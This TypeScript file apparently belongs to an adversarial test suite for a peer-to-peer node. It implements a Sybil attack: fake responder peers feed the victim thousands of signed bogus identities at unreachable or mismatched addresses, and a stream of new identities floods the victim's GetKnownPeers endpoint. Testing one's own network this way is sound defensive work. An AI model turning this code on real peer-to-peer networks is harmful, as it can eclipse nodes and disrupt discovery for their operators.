/**
 * Attack 5, Sybil peers. Responder peers announce themselves to the victim (GetKnownPeers with their
 * signed info) so that its discovery dials them; when the victim asks them for their known peers they
 * answer with `FAKE_PEERS_PER_ANSWER` fresh identities (validly signed, each answer new until the
 * pool made at start-up runs out), advertised at an address that swallows connection attempts (a
 * non-routable one) or at the responder's own (whose key will not match). From `DIRECT_ANNOUNCE_DELAY_MS`
 * on (so that the responders are dialled first), fresh identities also announce themselves straight to
 * the victim's GetKnownPeers, `ANNOUNCES_PER_SECOND`, each over its own TLS connection.
 */
import { Effect, Either, Exit, Scope } from "effect"
import { makeGrpcNetwork } from "../../../layers/network/grpc/GrpcNetworkLayer.js"
import { P2pMethods } from "../../../proto/P2pMethods.js"
import * as pb from "../../../proto/soma/p2p/v1/p2p.pb.js"
import { loops, scaled, type Attack, type AttackContext } from "../attack.js"
import { connectSession, grpcFrame, rawCall } from "../h2.js"
import { freshFakePeer, freshIdentity, type AttackerIdentity } from "../identity.js"
import { freePort } from "../../ports.js"
import { announce, signedNodeInfo } from "../peer.js"

/** Entries in one answer: the most a client looks at (discovery's MAX_ENTRIES_PER_RESPONSE). */
const FAKE_PEERS_PER_ANSWER = 1_000
const RESPONDERS = 3
/** Identities announcing themselves straight to the victim, per second. */
const ANNOUNCES_PER_SECOND = 40
const ANNOUNCE_CONCURRENCY = 8
/** A private address nothing answers on here: a dial there waits for its connect timeout. */
const BLACKHOLE_ADDRESS = "10.255.255.1:9000"
/** Fake peers signed at start-up (a key costs milliseconds to make; an answer must not block the attacker). */
const FAKE_PEER_POOL = 4_000
const DIRECT_ANNOUNCE_DELAY_MS = 4_000

/** Signed infos of fake peers, handed out in turn. */
class FakePeerPool {
  private next = 0
  private readonly infos: ReadonlyArray<ReadonlyArray<Uint8Array>>

  constructor(size: number, addresses: ReadonlyArray<string>) {
    // Each fake peer signed once per address, so the responder can point it at its own.
    const peers = Array.from({ length: size }, freshFakePeer)
    this.infos = addresses.map((address) => peers.map((peer) => signedNodeInfo(peer, [address])))
  }

  /** `count` infos, alternating the addresses. */
  take(count: number): Array<Uint8Array> {
    return Array.from({ length: count }, (_, i) => {
      const byAddress = this.infos[i % this.infos.length]!
      return byAddress[this.next++ % byAddress.length]!
    })
  }
}

const responder = (context: AttackContext, address: string, pool: FakePeerPool, identity: AttackerIdentity) =>
  Effect.gen(function* () {
    const { counters, plan } = context
    const network = yield* makeGrpcNetwork({ keypair: identity.keypair, listenAddress: address })
    const own = network.listenAddress
    yield* network.handleUnary(P2pMethods.GetKnownPeers, () =>
      Effect.sync(() => {
        counters.add("victimGetKnownPeers")
        const knownPeers = pool.take(scaled(plan, FAKE_PEERS_PER_ANSWER))
        counters.add("fakePeersSent", knownPeers.length)
        return { ownInfo: signedNodeInfo(identity, [own]), knownPeers }
      })
    )
    yield* network.handleUnary(P2pMethods.GetCommitAvailability, () =>
      Effect.succeed({ highestSyncedCommit: plan.chain.commits, lowestAvailableCommit: 1, epoch: 0 })
    )
    const announced = yield* Effect.either(announce(network, identity, plan.victim, own))
    counters.add(Either.isRight(announced) ? "respondersAnnounced" : "announceFailed")
  })

/** Sybil responders and a stream of fresh identities announcing themselves. */
export const sybilPeers: Attack = async (context) => {
  const scope = Effect.runSync(Scope.make())
  const responders = await Promise.all(Array.from({ length: scaled(context.plan, RESPONDERS) }, async () => ({ identity: freshIdentity(), port: await freePort() })))
  // Half the fake peers point at the black hole, half at a responder (whose key is not theirs).
  const pool = new FakePeerPool(scaled(context.plan, FAKE_PEER_POOL), [BLACKHOLE_ADDRESS, `127.0.0.1:${responders[0]!.port}`])
  await Promise.all(
    responders.map(({ identity, port }) => Effect.runPromise(Effect.either(Scope.extend(responder(context, `127.0.0.1:${port}`, pool, identity), scope))))
  )
  context.ready()
  await Promise.race([context.stop, new Promise((resolve) => setTimeout(resolve, DIRECT_ANNOUNCE_DELAY_MS))])
  const perLoopIntervalMs = (1000 * ANNOUNCE_CONCURRENCY) / scaled(context.plan, ANNOUNCES_PER_SECOND)
  await loops(context, ANNOUNCE_CONCURRENCY, async () => {
    const began = Date.now()
    const identity = freshIdentity()
    const session = await connectSession(context.plan.victim.address, identity)
    const request = pb.GetKnownPeersRequest.encode({ ownInfo: signedNodeInfo(identity, [BLACKHOLE_ADDRESS]) }).finish()
    const outcome = await rawCall(session, "/soma.p2p.v1.P2p/GetKnownPeers", grpcFrame(request), { timeoutMs: 5_000 })
    session.destroy()
    context.counters.add("sybilAnnounces")
    context.counters.status(outcome.status)
    await new Promise((resolve) => setTimeout(resolve, Math.max(0, perLoopIntervalMs - (Date.now() - began))))
  })
  await Effect.runPromise(Scope.close(scope, Exit.void))
}
